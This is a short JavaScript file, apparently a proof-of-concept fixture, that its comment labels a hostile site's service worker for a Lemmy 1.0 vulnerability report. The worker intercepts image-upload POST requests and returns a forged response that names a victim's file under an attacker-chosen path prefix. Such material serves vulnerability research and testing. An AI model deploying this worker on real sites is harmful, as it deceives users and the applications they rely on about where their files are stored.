// A hostile site's service worker (issue 11, §2): it answers the page's Lemmy 1.0 upload to another site itself, with a
// body naming a file of the victim's and a path prefix of its choosing. Nothing reaches the other site.
const config = new URLSearchParams(self.location.search);
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const url = new URL(event.request.url);
  if (event.request.method !== 'POST' || !/\/api\/v4\/image\/?$/.test(url.pathname)) return;
  const filename = config.get('filename');
  const body = { image_url: `${url.origin}${config.get('prefix') ?? ''}/api/v4/image/${filename}`, filename };
  event.respondWith(new Response(JSON.stringify(body), { status: 200, headers: { 'Content-Type': 'application/json' } }));
});
